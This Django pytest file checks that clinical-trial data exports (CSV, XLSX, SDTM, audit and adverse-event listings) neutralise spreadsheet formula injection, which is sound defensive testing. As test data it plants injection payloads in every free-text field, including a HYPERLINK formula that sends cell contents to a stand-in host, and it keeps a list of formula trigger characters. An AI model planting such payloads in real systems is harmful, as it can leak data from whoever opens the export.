"""Issue 12, finding 2: text that site users type never runs as a formula in the
spreadsheets the coordinators open. Every text cell of every tabular export (the
cohort CSV zip and its data dictionary, the XLSX workbook, the SDTM CSVs, the audit
trail and adverse-event listing CSVs) goes through ``exports.base.spreadsheet_safe``
(on PostgreSQL the CSV cells that ``COPY`` writes through ``spreadsheet_safe_sql``,
held here against it); XLSX text cells are strings, never formulas; numbers stay
numbers.

The free-text fields are read from the exported models (every CharField/TextField
without choices; the unique identifiers, subject id and site code, have a validated
format), so a new field is planted and checked without touching this file. Run on
PostgreSQL too (DATABASE_URL=postgres://...): the CSV of the wide tables is then
written by ``COPY``.
"""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pyreadstat
import pytest
from django.db.models import CharField, TextField, Value
from django.urls import reverse

from patients.models import Diagnosis, MalignancyHistory, Patient
from patients.services import patient_facts_refresh
from exchange import datasets
from exchange.exports import base, sdtm, tabular
from medications.models import ConcomitantMedication
from safety.models import AdverseEvent
from tests.patients.factories import DiagnosisFactory, MalignancyFactory, PatientFactory
from tests.visits.factories import AssessmentFactory, CycleFactory, InfusionFactory
from visits.models import Assessment, Infusion, MissedCycle, ProtocolDeviation, TreatmentCycle

pytestmark = pytest.mark.django_db

#: What makes a spreadsheet run a cell (OWASP): the test's own list, not the code's.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
EXPORTED_MODELS = [Patient, Diagnosis, MalignancyHistory, TreatmentCycle, Assessment, Infusion, AdverseEvent,
                   ProtocolDeviation, MissedCycle, ConcomitantMedication]
#: Dictionary codes with a validated format (MedDRA: 8 digits, checked when a release is loaded;
#: ATC: letters and digits, checked by medications.rules), not text a user types.
CODES = {"AdverseEvent.meddra_llt_code", "AdverseEvent.meddra_pt_code", "AdverseEvent.meddra_soc_code",
         "ConcomitantMedication.atc_code", "ConcomitantMedication.atc_class_code"}
#: Named in the finding: each must reach the cohort CSV and XLSX (planted, then found neutralised).
NAMED_IN_THE_FINDING = {"AdverseEvent.term", "MalignancyHistory.malignancy_type", "Infusion.product",
                        "Infusion.lot", "Patient.suspected_cause_detail", "Patient.withdrawal_reason",
                        "ProtocolDeviation.description", "ProtocolDeviation.resolution",
                        "ConcomitantMedication.drug_name", "ConcomitantMedication.indication"}


def free_text_fields(model):
    return [f for f in model._meta.concrete_fields
            if isinstance(f, (CharField, TextField)) and not f.choices and not f.unique
            and not f.name.endswith("rules_version")  # (a version code the services write, not text)
            and f"{model.__name__}.{f.name}" not in CODES]


def planted_text(model, field, trigger):
    name = f"{model.__name__}.{field.name}"
    text = f'{trigger}HYPERLINK("https://x.test/"&A2,"{name}")'
    if field.max_length is not None and len(text) > field.max_length:
        text = f"{trigger}1+{name}"
    assert field.max_length is None or len(text) <= field.max_length, name
    return text


def runs_as_formula(text):
    """A text a spreadsheet would run: a trigger first, or after spaces / line feeds."""
    return text[:1] in TRIGGERS or text.lstrip(" \n")[:1] in TRIGGERS


def marker(text):
    """The planted field a cell holds ("AdverseEvent.term"), or None."""
    for model in EXPORTED_MODELS:
        for field in free_text_fields(model):
            name = f"{model.__name__}.{field.name}"
            if text.endswith((f'"{name}")', f"1+{name}")):
                return name
    return None


@pytest.fixture(params=TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def trigger(request):
    return request.param


@pytest.fixture
def planted(trigger):
    """One subject whose every free-text field, in every exported model, starts with
    ``trigger``; an adverse event before the first infusion (a negative study day)."""

    def text(model):
        return {f.name: planted_text(model, f, trigger) for f in free_text_fields(model)}

    patient = PatientFactory(status="withdrawn", withdrawal_date=date(2025, 6, 1), suspected_cause="other",
                             **text(Patient))
    DiagnosisFactory(patient=patient, **text(Diagnosis))
    MalignancyFactory(patient=patient, **text(MalignancyHistory))
    cycle = CycleFactory(patient=patient, height_cm="170.0", **text(TreatmentCycle))
    AssessmentFactory(cycle=cycle, patient=patient, **text(Assessment))
    InfusionFactory(cycle=cycle, day=1, **text(Infusion))
    InfusionFactory(cycle=cycle, day=2, **text(Infusion))
    planted_missed = text(MissedCycle)
    planted_missed.pop("void_reason")  # a current entry: not voided
    MissedCycle.objects.create(patient=patient, planned_date=date(2025, 4, 14), reason="other", **planted_missed)
    # The factories write no stored facts of other rows: the treatment dates as the services store them.
    patient_facts_refresh(patient.pk, reason="Infusions entered")
    AdverseEvent.objects.create(patient=patient, onset_date=date(2025, 3, 14), grade=2, relatedness="possible",
                                action_taken="none", outcome="recovered", **text(AdverseEvent))
    ProtocolDeviation.objects.create(patient=patient, cycle=cycle, kind="window", resolved_at="2025-04-01T00:00Z",
                                     **text(ProtocolDeviation))
    planted_medication = text(ConcomitantMedication)
    planted_medication.pop("void_reason")  # a current entry: not voided
    ConcomitantMedication.objects.create(patient=patient, start_date=date(2025, 1, 10), ongoing=True,
                                         **planted_medication)
    return {f"{model.__name__}.{f.name}": planted_text(model, f, trigger)
            for model in EXPORTED_MODELS for f in free_text_fields(model)}


def check_text_cell(text, planted, found, bad, where):
    """Note in ``bad`` a cell that would run as a formula or is not the planted text
    neutralised; in ``found`` the planted field it holds."""
    name = marker(text)
    if runs_as_formula(text) or (name is not None and text != "'" + planted[name]):
        bad.append((where, text))
    elif name is not None:
        found.add(name)


def test_the_free_text_fields_come_from_the_models():
    names = {f"{m.__name__}.{f.name}" for m in EXPORTED_MODELS for f in free_text_fields(m)}
    assert names >= NAMED_IN_THE_FINDING | {"MalignancyHistory.notes", "AdverseEvent.description"}
    assert "Patient.subject_id" not in names and "Patient.sex" not in names


# --- The neutraliser, in Python and in SQL -------------------------------------------------

SAMPLES = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=", " =1+1", "  @x", "\n=1", " \n -2", "\t", "\r\n",
           "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "'=x", "", " ", "plain", "a=b", "1-2", "é=", "x\t=1",
           "中=", "Rash, \"itchy\"\n", 'say "hi"', "two\nlines"]


@pytest.mark.parametrize("trigger", TRIGGERS + ["\uff1d", "\uff0b", "\uff0d", "\uff20"])
@pytest.mark.req("URS-CPY-009")
def test_spreadsheet_safe_quotes_every_trigger(trigger):
    for text in (f"{trigger}HYPERLINK(\"https://x.test/\"&A2,\"note\")", trigger, f"  {trigger}x", f"\n{trigger}"):
        assert base.spreadsheet_safe(text) == "'" + text


def test_spreadsheet_safe_leaves_other_text_and_gives_text():
    for text in ("plain", "a=b", "1-2", "'=already quoted", "", " ", "x\t=1", "é"):
        assert base.spreadsheet_safe(text) == text
    assert base.spreadsheet_safe(None) == ""
    assert base.spreadsheet_safe(-5) == "'-5"  # a number given as text is text: callers pass text only


def test_spreadsheet_safe_sql_is_the_python_rule():
    """The SQL expression (PostgreSQL for COPY; SQLite too) against the Python function."""
    patient = PatientFactory()
    for text in SAMPLES + [None]:
        got = (Patient.objects.filter(pk=patient.pk)
               .annotate(cell=base.spreadsheet_safe_sql(Value(text, output_field=TextField())))
               .values_list("cell", flat=True).get())
        assert got == (None if text is None else base.spreadsheet_safe(text)), repr(text)


def test_text_rows_and_text_query_neutralise_text_columns(planted):
    """``Table.text_rows`` (the CSV cells; on PostgreSQL the SQL-formatted ones) are
    ``spreadsheet_safe(as_text(value))`` for text columns, ``as_text`` for the others."""
    patients = datasets.cohort()
    for table in datasets.TABLES:
        expected = [[base.spreadsheet_safe(datasets.as_text(v)) if c.type == "string" else datasets.as_text(v)
                     for c, v in zip(table.columns, values)] for values in table.tuples(patients)]
        got = [["" if v is None else str(v) for v in row] for row in table.text_rows(patients)]
        assert got == expected, table.name
        if table.text_query is not None and datasets.sql_text_supported():
            assert [["" if v is None else v for v in row] for row in table.text_query(patients)] == expected


# --- Every format ---------------------------------------------------------------------------

@pytest.mark.req("URS-CPY-009")
def test_cohort_csv_zip(planted):
    archive = zipfile.ZipFile(io.BytesIO(b"".join(tabular.csv_zip(datasets.cohort()))))
    found, bad = set(), []
    for name in archive.namelist():
        if not name.endswith(".csv"):
            continue
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))
        if name == "data_dictionary.csv":
            types = ["string"] * len(datasets.DICTIONARY_COLUMNS)
        else:
            table = datasets.TABLES_BY_NAME[name.removesuffix(".csv")]
            assert rows[0] == table.column_names
            types = [c.type for c in table.columns]
        assert len(rows) > 1, name
        for row in rows[1:]:
            for kind, text in zip(types, row, strict=True):
                if kind == "string":
                    check_text_cell(text, planted, found, bad, name)
                else:
                    assert not text.startswith("'"), (name, text)  # numbers, dates, booleans as they are
    assert not bad
    assert found >= NAMED_IN_THE_FINDING


@pytest.mark.req("URS-CPY-009")
def test_cohort_xlsx(planted):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(tabular.xlsx(datasets.cohort()))))
    found, bad = set(), []
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows())
        if sheet.title == "data_dictionary":
            types = ["string"] * len(datasets.DICTIONARY_COLUMNS)
        else:
            table = datasets.TABLES_BY_NAME[sheet.title]
            assert [c.value for c in rows[0]] == table.column_names
            types = [c.type for c in table.columns]
        assert len(rows) > 1, sheet.title
        for row in rows[1:]:
            for kind, cell in zip(types, row, strict=True):
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value is None:
                    continue
                if kind == "string":
                    assert cell.data_type == "s" and isinstance(cell.value, str), (sheet.title, cell.value)
                    check_text_cell(cell.value, planted, found, bad, sheet.title)
                else:
                    assert cell.data_type in ("n", "d", "b"), (sheet.title, cell.coordinate, cell.value)
    assert not bad
    assert found >= NAMED_IN_THE_FINDING


def test_xlsx_text_like_an_error_code_is_a_string():
    """openpyxl would make an error cell of it: text stays text."""
    AdverseEvent.objects.create(patient=PatientFactory(), term="#N/A", onset_date=date(2025, 3, 14), grade=1,
                                relatedness="possible", action_taken="none", outcome="recovered")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(tabular.xlsx(datasets.cohort()))))
    sheet = workbook["adverse_events"]
    column = datasets.TABLES_BY_NAME["adverse_events"].column_names.index("term") + 1
    cell = sheet.cell(row=2, column=column)
    assert (cell.value, cell.data_type) == ("#N/A", "s")
    # The cells after it are written as ever (openpyxl goes on with the cell given for the next values).
    AdverseEvent.objects.update(term="NA")
    plain = openpyxl.load_workbook(io.BytesIO(b"".join(tabular.xlsx(datasets.cohort()))))["adverse_events"]
    got, expected = [(c.value, c.data_type) for c in sheet[2]], [(c.value, c.data_type) for c in plain[2]]
    assert got[:column - 1] + got[column:] == expected[:column - 1] + expected[column:]


def test_sdtm_csvs(planted, tmp_path):
    archive = zipfile.ZipFile(io.BytesIO(b"".join(sdtm.sdtm_zip(datasets.cohort()))))
    found, bad, negative_numbers = set(), [], 0
    for domain in sdtm.DOMAINS:
        rows = list(csv.reader(io.StringIO(archive.read(f"{domain.filename}.csv").decode("utf-8"), newline="")))
        assert rows[0] == domain.names
        assert len(rows) > 1 or domain.code == "CE", domain.code  # no malignancy on study here
        for row in rows[1:]:
            for var, text in zip(domain.variables, row, strict=True):
                if var.numeric:
                    assert text == "" or float(text) is not None, (domain.code, var.name, text)
                    negative_numbers += text.startswith("-")
                else:
                    check_text_cell(text, planted, found, bad, f"{domain.code}.{var.name}")
    assert not bad
    assert found >= {"AdverseEvent.term", "MalignancyHistory.malignancy_type", "Infusion.product", "Infusion.lot"}
    assert negative_numbers  # AESTDY of the event before the first infusion: still a number
    # The SAS transport file keeps the value as it was entered: no spreadsheet runs it.
    path = tmp_path / "ae.xpt"
    path.write_bytes(archive.read("ae.xpt"))
    frame, _ = pyreadstat.read_xport(str(path))
    assert frame["AETERM"].tolist() == [planted["AdverseEvent.term"]]


@pytest.mark.req("URS-CPY-009")
def test_audit_trail_csv(planted, client_for, monitor):
    response = client_for(monitor).get(reverse("oversight:audit_export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"), newline="")))
    found, bad = set(), []
    for row in rows[1:]:
        for text in row:
            check_text_cell(text, planted, found, bad, "audit")
    assert not bad
    assert found >= {"AdverseEvent.term", "ProtocolDeviation.description"}


def test_adverse_event_listing_csv(planted, client_for, coordinator):
    response = client_for(coordinator).get(reverse("oversight:ae_listing_export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"), newline="")))
    found, bad = set(), []
    assert len(rows) == 2
    for text in rows[1]:
        check_text_cell(text, planted, found, bad, "ae listing")
    assert not bad
    assert found == {"AdverseEvent.term"}
